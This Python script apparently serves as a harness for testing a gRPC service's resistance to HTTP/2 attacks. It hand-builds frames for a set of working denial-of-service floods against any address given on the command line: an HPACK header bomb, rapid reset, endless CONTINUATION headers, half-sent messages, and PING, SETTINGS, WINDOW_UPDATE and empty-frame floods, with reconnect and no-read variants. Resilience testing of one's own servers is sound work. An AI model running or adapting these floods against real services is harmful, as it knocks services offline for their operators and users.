"""Floods of HTTP/2 without a key, one connection at a time: ``python http2_floods.py ADDRESS FLOOD SECONDS``.

Each is made of frames by hand, as no client library sends them, and is bounded in time and in bytes a second. When the
server ends the connection, the next begins. Printed at the end, as JSON: the connections, frames and bytes sent.
"""

from __future__ import annotations

import itertools
import json
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/gradwire.v1.TrainingService/ListRuns"
BYTES_PER_S = 16 << 20
"""Sent at most: 134 Mbit/s, what one line of an attacker may have."""
WRITE_BYTES = 16 << 10


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name: str, value: bytes, *, remembered: bool = False) -> bytes:
    """A header in HPACK, without its Huffman code."""
    text = name.encode()
    prefix = b"\x40" if remembered else b"\x00"
    return prefix + _length(len(text)) + text + _length(len(value)) + value


def _length(count: int) -> bytes:
    """A number of seven bits or more in HPACK."""
    if count < 127:
        return bytes([count])
    count, parts = count - 127, [127]
    while count >= 128:
        parts.append(count % 128 + 128)
        count //= 128
    return bytes([*parts, count])


CALL = (
    b"\x83\x86"  # :method POST, :scheme http
    + field(":path", METHOD.encode())
    + field(":authority", b"x")
    + field("content-type", b"application/grpc")
    + field("te", b"trailers")
)
Frames = Iterator[bytes]


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def hpack_bomb(headers: int = 4_000, value_bytes: int = 3_500) -> Frames:
    """Calls that name an entry of the table thousands of times: a byte each."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, CALL + field("x-bomb", b"x" * value_bytes, remembered=True))
    for stream in itertools.islice(_streams(), 1, None):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, CALL + b"\xbe" * headers)


def hpack_bomb_of_few() -> Frames:
    """The same with a quarter as many, so that more of the calls are below the limit for a client before its ACK."""
    return hpack_bomb(1_000)


def rapid_reset() -> Frames:
    """Calls that are cancelled in the same breath."""
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def half_messages() -> Frames:
    """Calls that promise a message of a megabyte and do not send it."""
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, 0, stream, b"\0" + (1 << 20).to_bytes(4, "big"))


def pings() -> Frames:
    return itertools.repeat(frame(PING, 0, 0, bytes(8)))


def settings() -> Frames:
    """Settings that change the windows of all streams back and forth."""
    sizes = [b"\0\x04" + size.to_bytes(4, "big") for size in (65_535, 1 << 20)]
    return itertools.cycle(frame(SETTINGS, 0, 0, size) for size in sizes)


def continuations() -> Frames:
    """A call whose headers do not end."""
    yield frame(HEADERS, 0, 1, CALL)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, field("x-more", b"x" * 64)))


def empty_frames() -> Frames:
    """A call that sends nothing, many times."""
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    yield from itertools.repeat(frame(DATA, 0, 1))


def window_updates() -> Frames:
    yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))


FLOODS: dict[str, Callable[[], Frames]] = {
    flood.__name__: flood
    for flood in (
        hpack_bomb, hpack_bomb_of_few, rapid_reset, half_messages, pings, settings, continuations, empty_frames,
        window_updates,
    )
}  # fmt: skip
UNREAD = "_unread"
"""End of the name of a flood whose client reads no answers."""
ACKNOWLEDGED = "_acknowledged"
"""End of the name of one whose client acknowledges the server's settings, as it must, before it begins."""
AGAIN = "_again"
"""End of the name of one whose client begins another connection after so many frames as the server allows calls."""
AGAIN_FRAMES = 100


class Connection:
    """One connection, whose answers are read and forgotten."""

    def __init__(self, address: str, *, reads: bool, acknowledges: bool) -> None:
        host, port = address.rsplit(":", 1)
        self._socket = socket.create_connection((host, int(port)), timeout=1.0)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        if acknowledges:
            self._socket.recv(9)  # the server's settings come first
            self._socket.sendall(frame(SETTINGS, ACK, 0))
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        try:
            while self._socket.recv(1 << 16):
                pass
        except OSError:  # it ended, or nothing came for a while
            pass

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)

    def close(self) -> None:
        self._socket.close()


def flood(address: str, name: str, seconds: float) -> dict[str, int]:
    """Send a flood; the connections, frames and bytes."""
    began = time.monotonic()
    end = began + seconds
    plain = name.removesuffix(UNREAD).removesuffix(ACKNOWLEDGED).removesuffix(AGAIN)
    sent = {"connections": 0, "frames": 0, "bytes": 0}
    while time.monotonic() < end:
        try:
            connection = Connection(address, reads=not name.endswith(UNREAD), acknowledges=ACKNOWLEDGED in name)
        except OSError:
            time.sleep(0.01)
            continue
        sent["connections"] += 1
        frames = itertools.islice(FLOODS[plain](), AGAIN_FRAMES if name.endswith(AGAIN) else None)
        try:
            while time.monotonic() < end:
                time.sleep(max(0.0, began + sent["bytes"] / BYTES_PER_S - time.monotonic()))
                parts, size = [], 0
                while size < WRITE_BYTES and (made := next(frames, b"")):
                    parts.append(made)
                    size += len(made)
                if not parts:
                    break
                connection.send(b"".join(parts))
                sent["frames"] += len(parts)
                sent["bytes"] += size
        except OSError:  # the server ended it, or takes no more
            pass
        finally:
            connection.close()
    return sent


if __name__ == "__main__":
    print(json.dumps(flood(sys.argv[1], sys.argv[2], float(sys.argv[3]))))
